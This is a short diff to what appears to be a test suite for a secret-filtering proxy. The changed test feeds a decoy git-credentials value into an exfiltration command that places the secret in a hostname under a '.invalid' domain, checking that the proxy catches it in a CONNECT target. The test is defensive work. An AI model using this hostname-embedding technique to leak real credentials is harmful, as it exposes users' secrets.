@@ -82,7 +82,7 @@ describe('decoy values through the proxy', () => {
   });
 
   it('in a CONNECT target name: secret-exfil before any lookup', async () => {
-    const ghp = values.netrc![0]!;
+    const ghp = values['git-credentials']![0]!;
     await exfil(`${c} --max-time 10 https://${ghp.toLowerCase()}.invalid/; sleep 30`, 'connect');
   });
 });
